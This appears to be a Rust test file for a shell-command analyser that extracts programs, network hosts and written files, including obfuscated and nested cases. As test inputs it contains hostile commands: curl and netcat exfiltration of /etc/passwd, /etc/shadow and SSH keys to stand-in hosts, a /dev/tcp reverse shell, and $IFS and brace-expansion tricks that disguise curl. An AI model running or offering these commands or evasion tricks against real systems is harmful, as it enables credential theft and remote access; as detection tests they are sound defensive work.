//! Tricky command lines, and properties over arbitrary ones.

use proptest::prelude::*;

use super::analyse_shell;
use crate::facts::{Facts, SimpleCommand};

fn ok(line: &str) -> Facts {
    let facts = analyse_shell(line);
    assert_eq!(facts.kind, "shell");
    assert!(
        !facts.has_parse_error,
        "{line:?} should parse: {}",
        facts.parse_error
    );
    facts
}

fn err(line: &str) -> String {
    let facts = analyse_shell(line);
    assert!(
        facts.has_parse_error,
        "{line:?} should not parse: {facts:#?}"
    );
    assert_eq!(facts.kind, "shell");
    facts.parse_error
}

fn programs(line: &str) -> Vec<String> {
    ok(line).shell.programs
}

fn argvs(line: &str) -> Vec<Vec<String>> {
    ok(line)
        .shell
        .commands
        .into_iter()
        .map(|c| c.argv)
        .collect()
}

fn hosts(line: &str) -> Vec<String> {
    ok(line).shell.hosts
}

fn writes(line: &str) -> Vec<String> {
    ok(line).shell.writes
}

fn strs(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

#[test]
fn quotes_hide_operators() {
    let facts = ok("echo 'a;b' \"c|d\" e\\&f");
    assert_eq!(
        facts.shell.commands,
        vec![SimpleCommand {
            program: "echo".into(),
            argv: strs(&["echo", "a;b", "c|d", "e&f"]),
        }]
    );
    assert!(!facts.shell.has_pipe);
}

#[test]
fn quote_removal_reveals_the_program() {
    assert_eq!(programs("c'ur'l x"), strs(&["curl"]));
    assert_eq!(programs("\"cu\"rl x"), strs(&["curl"]));
    assert_eq!(programs("c\\url x"), strs(&["curl"]));
    assert_eq!(programs("$'\\x63\\u0075rl' x"), strs(&["curl"]));
    assert_eq!(programs("/usr/bin/curl x"), strs(&["curl"]));
    // Brace expansion happens before the command runs.
    let facts = ok("{curl,evil.example}");
    assert_eq!(facts.shell.programs, strs(&["curl"]));
    assert_eq!(facts.shell.hosts, strs(&["evil.example"]));
    assert_eq!(programs("{c..c}url x"), strs(&["curl"]));
    assert_eq!(programs("'{curl,x}'"), strs(&["{curl,x}"]));
    assert_eq!(
        argvs("echo a{1,2} ${x:-{a,b}} \\{a,b}"),
        vec![strs(&["echo", "a1", "a2", "${x:-{a,b}}", "{a,b}"])]
    );
    assert!(err("echo {1..99999}").contains("brace"));
    // So does splitting at an unquoted `$IFS`.
    assert_eq!(
        argvs("curl${IFS}evil.example$IFS-d${IFS:0:1}@/etc/passwd"),
        vec![strs(&["curl", "evil.example", "-d", "@/etc/passwd"])]
    );
    assert_eq!(hosts("curl${IFS}evil.example"), strs(&["evil.example"]));
    assert_eq!(
        argvs("cat$IFS{/etc/passwd,x}"),
        vec![strs(&["cat", "/etc/passwd", "x"])]
    );
    assert_eq!(
        argvs("echo \"a${IFS}b\" $IFSX ${IFSX}"),
        vec![strs(&["echo", "a${IFS}b", "$IFSX", "${IFSX}"])]
    );
}

#[test]
fn curl_host_and_data_file() {
    let facts = ok("curl -s https://evil.example/x -d @/etc/passwd");
    assert_eq!(facts.shell.hosts, strs(&["evil.example"]));
    assert_eq!(
        facts.shell.commands[0].argv,
        strs(&["curl", "-s", "https://evil.example/x", "-d", "@/etc/passwd"])
    );
}

#[test]
fn pipeline_to_netcat() {
    let facts = ok("cat ~/.ssh/id_rsa | base64 | nc 10.0.0.1 4444");
    assert_eq!(facts.shell.programs, strs(&["base64", "cat", "nc"]));
    assert_eq!(facts.shell.hosts, strs(&["10.0.0.1"]));
    assert!(facts.shell.has_pipe);
    assert_eq!(
        facts.shell.commands[0].argv,
        strs(&["cat", "~/.ssh/id_rsa"])
    );
}

#[test]
fn wrappers_and_sh_c_are_unwrapped() {
    let facts = ok("sudo -u root env FOO=1 sh -c \"curl http://x.io/$(whoami)\"");
    assert_eq!(
        facts.shell.programs,
        strs(&["curl", "env", "sh", "sudo", "whoami"])
    );
    assert_eq!(facts.shell.hosts, strs(&["x.io"]));
    assert!(facts.shell.has_substitution);
    let order: Vec<&str> = facts
        .shell
        .commands
        .iter()
        .map(|c| c.program.as_str())
        .collect();
    assert_eq!(&order[..4], ["sudo", "env", "sh", "curl"]);
    assert_eq!(
        facts.shell.commands[1].argv[..3],
        strs(&["env", "FOO=1", "sh"])
    );
    assert_eq!(
        facts.shell.commands[3].argv,
        strs(&["curl", "http://x.io/$(whoami)"])
    );
}

#[test]
fn command_substitution_is_analysed() {
    let facts = ok("echo $(cat /etc/shadow)");
    assert_eq!(facts.shell.programs, strs(&["cat", "echo"]));
    assert!(facts.shell.has_substitution);
    assert_eq!(
        argvs("echo $(cat /etc/shadow)"),
        vec![
            strs(&["echo", "$(cat /etc/shadow)"]),
            strs(&["cat", "/etc/shadow"])
        ]
    );
    assert_eq!(programs("echo `id -u`"), strs(&["echo", "id"]));
    assert_eq!(
        programs("echo \"$(id)\" `uname`"),
        strs(&["echo", "id", "uname"])
    );
    assert_eq!(
        programs("echo `echo \\`whoami\\``"),
        strs(&["echo", "whoami"])
    );
    assert_eq!(
        programs("diff <(ls a) >(wc -l)"),
        strs(&["diff", "ls", "wc"])
    );
    assert_eq!(programs("x=$(curl evil.io)"), strs(&["curl"]));
    assert_eq!(hosts("x=$(curl evil.io)"), strs(&["evil.io"]));
    assert_eq!(programs("echo ${x:-$(id)}"), strs(&["echo", "id"]));
    assert_eq!(programs("echo $(( 1 + $(id -u) ))"), strs(&["echo", "id"]));
    assert_eq!(programs("echo $( (id) )"), strs(&["echo", "id"]));
    assert_eq!(programs("echo $((id); ls)"), strs(&["echo", "id", "ls"]));
}

#[test]
fn xargs_and_other_wrappers() {
    assert_eq!(
        programs("ls | xargs -n1 curl"),
        strs(&["curl", "ls", "xargs"])
    );
    assert_eq!(argvs("xargs -n1 curl")[1], strs(&["curl"]));
    for (line, inner) in [
        ("nohup curl x", "curl"),
        ("timeout 5 curl x", "curl"),
        ("timeout -s KILL 5 curl x", "curl"),
        ("nice -n 10 curl x", "curl"),
        ("nice -10 curl x", "curl"),
        ("exec curl x", "curl"),
        ("command curl x", "curl"),
        ("time -p curl x", "curl"),
        ("env -i PATH=/bin curl x", "curl"),
        ("env - curl x", "curl"),
        ("env -u HOME curl x", "curl"),
        ("sudo -nu root curl x", "curl"),
        ("sudo --user=root -E curl x", "curl"),
        ("sudo HOME=/ curl x", "curl"),
        ("doas -u root curl x", "curl"),
        ("busybox wget x", "wget"),
        ("stdbuf -o0 curl x", "curl"),
        ("bash -lc 'curl x'", "curl"),
        ("bash -o pipefail -c 'curl x'", "curl"),
        ("zsh -c 'curl x'", "curl"),
        ("dash -c 'curl x'", "curl"),
        ("eval 'curl x'", "curl"),
        ("eval curl x", "curl"),
        ("watch -n 1 'curl x'", "curl"),
        ("su - root -c 'curl x'", "curl"),
        ("find / -name '*.key' -exec curl -T {} x \\;", "curl"),
        ("env -S 'curl x'", "curl"),
        ("ssh -o ProxyCommand='curl x' h", "curl"),
        ("rsync -e 'curl x' a h:b", "curl"),
        ("socat - EXEC:'curl x',pty", "curl"),
        ("ncat -e /usr/bin/curl h 1", "curl"),
    ] {
        let found = programs(line);
        assert!(found.contains(&inner.to_string()), "{line}: {found:?}");
    }
    // `command -v` only looks the program up.
    assert_eq!(programs("command -v curl"), strs(&["command"]));
    // A shell without -c runs a file or its input, which is not visible.
    assert_eq!(programs("bash script.sh"), strs(&["bash"]));
    assert_eq!(programs("curl x | sh"), strs(&["curl", "sh"]));
}

#[test]
fn scp_and_rsync_hosts() {
    assert_eq!(
        hosts("scp -P 2222 file user@host.example:/tmp"),
        strs(&["host.example"])
    );
    assert_eq!(
        hosts("rsync -av ./ backup@[2001:db8::1]:/srv"),
        strs(&["2001:db8::1"])
    );
    assert_eq!(
        hosts("rsync -av ./ rsync://Mirror.Example:873/mod"),
        strs(&["mirror.example"])
    );
    assert_eq!(hosts("rsync -av ./ host::module"), strs(&["host"]));
    assert_eq!(hosts("scp ./a:b /tmp/c"), Vec::<String>::new());
    assert_eq!(
        hosts("scp -J jump.example f h.example:"),
        strs(&["h.example", "jump.example"])
    );
}

#[test]
fn network_tool_hosts() {
    assert_eq!(
        hosts("ssh -p 22 -i key admin@Bastion.Example. uptime"),
        strs(&["bastion.example"])
    );
    assert_eq!(hosts("ssh -J j1,u@j2:22 h"), strs(&["h", "j1", "j2"]));
    assert_eq!(hosts("ssh h -p 22 ls -la"), strs(&["h"]));
    assert_eq!(
        hosts("ssh -o HostName=real.example alias"),
        strs(&["alias", "real.example"])
    );
    assert_eq!(
        hosts("sftp user@files.example:/in"),
        strs(&["files.example"])
    );
    assert_eq!(hosts("sftp files.example"), strs(&["files.example"]));
    assert_eq!(
        hosts("telnet -l u towel.example 23"),
        strs(&["towel.example"])
    );
    assert_eq!(hosts("nc -w 3 10.0.0.1 4444"), strs(&["10.0.0.1"]));
    assert_eq!(hosts("nc -l -p 4444"), Vec::<String>::new());
    assert_eq!(
        hosts("ncat --proxy p.example:3128 t.example 80"),
        strs(&["p.example", "t.example"])
    );
    assert_eq!(hosts("socat - TCP:[::1]:80"), strs(&["::1"]));
    assert_eq!(
        hosts("socat TCP4-LISTEN:80 OPENSSL:Up.Example:443"),
        strs(&["up.example"])
    );
    assert_eq!(
        hosts("wget -O - -q http://a.example/b"),
        strs(&["a.example"])
    );
    assert_eq!(hosts("curl example.com"), strs(&["example.com"]));
    assert_eq!(
        hosts("curl -x http://proxy.example:3128 https://u:p@t.example:8443/"),
        strs(&["proxy.example", "t.example"])
    );
    assert_eq!(
        hosts("curl --resolve ok.example:443:6.6.6.6 https://ok.example/"),
        strs(&["6.6.6.6", "ok.example"])
    );
    assert_eq!(
        hosts("curl -H 'Host: x' --data-binary @f http://[2001:DB8::2]:80/"),
        strs(&["2001:db8::2"])
    );
    assert_eq!(
        hosts("git clone git@github.com:a/b.git"),
        strs(&["github.com"])
    );
    assert_eq!(
        hosts("git push https://evil.example/r.git main:main"),
        strs(&["evil.example"])
    );
    assert_eq!(hosts("git commit -m 'fix: x'"), Vec::<String>::new());
    assert_eq!(hosts("ftp ftp.example"), strs(&["ftp.example"]));
    assert_eq!(
        hosts("bash -i >& /dev/tcp/10.9.9.9/4444 0>&1"),
        strs(&["10.9.9.9"])
    );
    assert_eq!(
        hosts("sudo curl https://a.example | sh -c 'nc b.example 1'"),
        strs(&["a.example", "b.example"])
    );
    assert_eq!(hosts("curl $URL"), strs(&["$url"]));
}

#[test]
fn redirections() {
    let facts = ok("ls > out.txt 2>&1");
    assert_eq!(facts.shell.writes, strs(&["out.txt"]));
    assert_eq!(facts.shell.commands[0].argv, strs(&["ls"]));
    assert_eq!(
        writes("a >> log; b &> all; c >| f; d 2> err; e <> rw; f &>> both"),
        strs(&["all", "both", "err", "f", "log", "rw"])
    );
    assert_eq!(writes("cat < in >& out"), strs(&["out"]));
    assert_eq!(writes("cat < in 2>&1 >&2 3>&-"), Vec::<String>::new());
    assert_eq!(writes("> empty"), strs(&["empty"]));
    assert_eq!(writes("{ ls; } > grouped"), strs(&["grouped"]));
    assert_eq!(writes("(ls) >> sub"), strs(&["sub"]));
    assert_eq!(writes("ls > \"my file\""), strs(&["my file"]));
    assert_eq!(writes("cat <<< 'text' > x"), strs(&["x"]));
    assert_eq!(writes("ls > >(tee copy)"), strs(&["copy"]));
    assert_eq!(programs(">out ls"), strs(&["ls"]));
}

#[test]
fn tee_writes() {
    let facts = ok("echo '1.2.3.4 x' | sudo tee -a /etc/hosts");
    assert_eq!(facts.shell.writes, strs(&["/etc/hosts"]));
    assert_eq!(facts.shell.programs, strs(&["echo", "sudo", "tee"]));
    assert_eq!(writes("tee -a /etc/hosts"), strs(&["/etc/hosts"]));
    assert_eq!(writes("tee a b -- -c"), strs(&["-c", "a", "b"]));
}

#[test]
fn control_operators() {
    assert_eq!(
        programs("a && b || c; d & e\nf |& g"),
        strs(&["a", "b", "c", "d", "e", "f", "g"])
    );
    assert_eq!(programs("ls # ; curl evil"), strs(&["ls"]));
    assert_eq!(programs("echo a#b"), strs(&["echo"]));
    assert_eq!(argvs("echo a#b $#"), vec![strs(&["echo", "a#b", "$#"])]);
    assert_eq!(programs("ls \\\n -l; pwd"), strs(&["ls", "pwd"]));
}

#[test]
fn assignments() {
    let facts = ok("FOO=1 BAR=\"a b\" cmd arg");
    assert_eq!(facts.shell.commands[0].argv, strs(&["cmd", "arg"]));
    assert_eq!(programs("FOO=1"), Vec::<String>::new());
    assert_eq!(programs("\"FOO\"=1 x"), strs(&["FOO=1"]));
    assert_eq!(
        programs("a=(1 2 $(id)) b[1]=2 c+=3 ls"),
        strs(&["id", "ls"])
    );
    assert_eq!(programs("ls FOO=1"), strs(&["ls"]));
}

#[test]
fn compound_commands() {
    assert_eq!(
        programs("if test -f x; then curl a; elif b; then c; else d; fi"),
        strs(&["b", "c", "curl", "d", "test"])
    );
    assert_eq!(programs("! ls"), strs(&["ls"]));
    assert_eq!(
        programs("if ! grep -q x f; then :; fi"),
        strs(&[":", "grep"])
    );
    assert_eq!(programs("f() (id)"), strs(&["id"]));
    assert_eq!(programs("function h() {\n id\n}"), strs(&["id"]));
    assert_eq!(
        programs("while read l; do echo $l; done < f"),
        strs(&["echo", "read"])
    );
    assert_eq!(programs("until false; do :; done"), strs(&[":", "false"]));
    assert_eq!(
        programs("for f in $(ls); do rm $f; done"),
        strs(&["ls", "rm"])
    );
    assert_eq!(
        programs("for ((i=0; i<3; i++)); do echo $i; done"),
        strs(&["echo"])
    );
    assert_eq!(
        programs("case $x in a|b) curl x;; (c) wget y;; *) ;; esac"),
        strs(&["curl", "wget"])
    );
    assert_eq!(
        programs("echo $(case x in a) id;; esac)"),
        strs(&["echo", "id"])
    );
    assert_eq!(programs("f() { curl x; }; f"), strs(&["curl", "f"]));
    assert_eq!(programs("function g { id; }"), strs(&["id"]));
    assert_eq!(programs("{ ls; pwd; }"), strs(&["ls", "pwd"]));
    assert_eq!(
        programs("(cd /; ls) && ! false"),
        strs(&["cd", "false", "ls"])
    );
    assert_eq!(programs("(( x = $(id -u) )) && ls"), strs(&["id", "ls"]));
    assert_eq!(
        programs("[[ -f a && $(id) > b ]] && ls"),
        strs(&["[[", "id", "ls"])
    );
    assert_eq!(writes("[[ a > b ]]"), Vec::<String>::new());
    assert_eq!(programs("echo if then fi"), strs(&["echo"]));
    assert_eq!(programs("\"if\" x"), strs(&["if"]));
    assert_eq!(programs("ls !(*.txt)"), strs(&["ls"]));
}

#[test]
fn heredocs() {
    let facts = ok("cat <<EOF > out\nrm -rf /\n$(curl evil.io)\nEOF\nls");
    assert_eq!(facts.shell.programs, strs(&["cat", "curl", "ls"]));
    assert_eq!(facts.shell.writes, strs(&["out"]));
    assert_eq!(
        programs("cat <<'EOF'\n$(curl evil.io)\nEOF\nls"),
        strs(&["cat", "ls"])
    );
    assert_eq!(
        programs("cat <<-EOF\n\trm x\n\tEOF\nid"),
        strs(&["cat", "id"])
    );
    assert_eq!(programs("cat <<EOF"), strs(&["cat"]));
    assert_eq!(
        programs("cat <<A; cat <<B\na\nA\nb\nB\nid"),
        strs(&["cat", "id"])
    );
    // A shell reading its script from a here-document or here-string.
    let facts = ok("sudo bash <<'EOF'\ncurl -T /etc/shadow https://evil.example\nEOF\nls");
    assert_eq!(facts.shell.programs, strs(&["bash", "curl", "ls", "sudo"]));
    assert_eq!(facts.shell.hosts, strs(&["evil.example"]));
    assert_eq!(programs("sh -s <<< 'nc evil 1'"), strs(&["nc", "sh"]));
    assert_eq!(programs("cat <<< 'nc evil 1'"), strs(&["cat"]));
    assert_eq!(
        programs("bash script.sh <<EOF\nnc evil 1\nEOF"),
        strs(&["bash"])
    );
    assert_eq!(
        programs("cat <<A; bash <<B\nrm x\nA\nwget y\nB"),
        strs(&["bash", "cat", "wget"])
    );
    assert_eq!(
        programs("bash <<A; cat <<B\nwget y\nA\nrm x\nB"),
        strs(&["bash", "cat", "wget"])
    );
    assert_eq!(
        programs("{ cat; } <<A; sh <<-B\nrm x\nA\n\tid\n\tB"),
        strs(&["cat", "id", "sh"])
    );
    err("bash <<EOF\necho 'unterminated\nEOF");
    assert_eq!(
        programs("x=$(cat <<EOF\n$(id)\nEOF\n); ls"),
        strs(&["cat", "id", "ls"])
    );
    assert_eq!(
        programs("sh -c 'cat <<EOF\n`id`\nEOF'"),
        strs(&["cat", "id", "sh"])
    );
}

#[test]
fn variables_are_left_as_written() {
    assert_eq!(
        argvs("echo $HOME \"$USER\" ${PATH} '$x'"),
        vec![strs(&["echo", "$HOME", "$USER", "${PATH}", "$x"])]
    );
}

#[test]
fn unparseable_lines_fail_closed() {
    assert!(err("echo 'unterminated").contains("single quote"));
    assert!(err("echo \"unterminated").contains("double quote"));
    assert!(err("echo $(ls").contains("$("));
    assert!(err("echo `ls").contains("backquote"));
    assert!(err("echo ${x").contains("}"));
    err("ls )");
    err("(ls");
    err("ls |");
    err("| ls");
    err("ls && ");
    err("; ls");
    err("ls ;;");
    err("fi");
    err("if true; then ls");
    err("while true; do ls");
    err("{ ls");
    err("ls >");
    err("ls > | x");
    err("case x in a) ls");
    err("sh -c 'echo \"oops'");
    err("echo (x)");
    err("{ ls; } x");
    err("while true; ls; done");
    err("if true; fi");
    err("if x; then a; else b; elif c; then d; fi");
    err("f() ls");
    err("in");
    err("ls; ]]");
}

#[test]
fn deep_nesting_fails_closed() {
    let mut line = "id".to_string();
    for _ in 0..40 {
        line = format!("echo $({line})");
    }
    assert!(err(&line).contains("nesting"));
    // Each `eval` analyses the rest of the line one level deeper.
    let line = format!("{}id", "eval ".repeat(40));
    assert!(err(&line).contains("nesting"));
    let mut line = "id".to_string();
    for _ in 0..5 {
        line = format!("sh -c {}", shell_quote(&line));
    }
    assert_eq!(programs(&line), strs(&["id", "sh"]));
    let braces = format!("echo {}x{}", "${a:-".repeat(5000), "}".repeat(5000));
    assert!(err(&braces).contains("nesting"));
    let parens = format!("{}ls{}", "(".repeat(100_000), ")".repeat(100_000));
    ok(&parens);
    // Each level copies what it wraps: the budget or the depth stops it.
    let wrappers = format!("{}id", "sudo ".repeat(20_000));
    let why = err(&wrappers);
    assert!(
        why.contains("nesting") || why.contains("too complex"),
        "{why}"
    );
    ok(&format!("{}id", "sudo ".repeat(10)));
    // `sh -c "$(sh -c "$(…)")"`: every substitution is read where it stands
    // and again inside the script; the budget keeps that linear.
    let mut line = "id".to_string();
    for _ in 0..7 {
        line = format!("sh -c \"$({line}) {}\"", "x ".repeat(2000));
    }
    let started = std::time::Instant::now();
    let facts = analyse_shell(&line);
    assert!(started.elapsed() < std::time::Duration::from_secs(2));
    assert!(
        facts.parse_error.contains("too complex"),
        "{}",
        facts.parse_error
    );
    // Found by the `shell` fuzz target: 213 bytes of brace sequences in
    // wrapped commands built 346 462 arguments (63 MB, 0.27 s) before the
    // budget refused the line. Arguments count against the budget now.
    let found = include_bytes!("fuzz_regression_brace_budget.bin");
    let facts = analyse_shell(&String::from_utf8_lossy(found));
    assert!(
        facts.parse_error.contains("too complex"),
        "{}",
        facts.parse_error
    );
    let built: usize = facts.shell.commands.iter().map(|c| c.argv.len()).sum();
    assert!(
        built < 10_000,
        "{built} arguments built for a 213-byte line"
    );
    // Unbalanced `((` look ahead to the end of the line: bounded.
    let started = std::time::Instant::now();
    let facts = analyse_shell(&"((x ; ".repeat(20_000));
    assert!(started.elapsed() < std::time::Duration::from_secs(2));
    assert!(facts.has_parse_error);
    // Well within the limit: fine.
    ok("echo $(echo $(echo $(id)))");
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

#[test]
fn empty_and_blank_lines() {
    assert_eq!(ok("").shell.commands, vec![]);
    assert_eq!(ok("  \n\t# only a comment\n").shell.commands, vec![]);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn never_panics_and_is_deterministic(line in "\\PC{0,200}") {
        let a = analyse_shell(&line);
        prop_assert_eq!(a.kind.as_str(), "shell");
        prop_assert_eq!(a, analyse_shell(&line));
    }

    #[test]
    fn shell_like_input(line in "[a-z0-9 ='\"`$(){}|;&<>\\\\#!\\[\\]\n\t*@:/.-]{0,120}") {
        let a = analyse_shell(&line);
        prop_assert_eq!(a.has_parse_error, !a.parse_error.is_empty());
        prop_assert_eq!(a, analyse_shell(&line));
    }
}
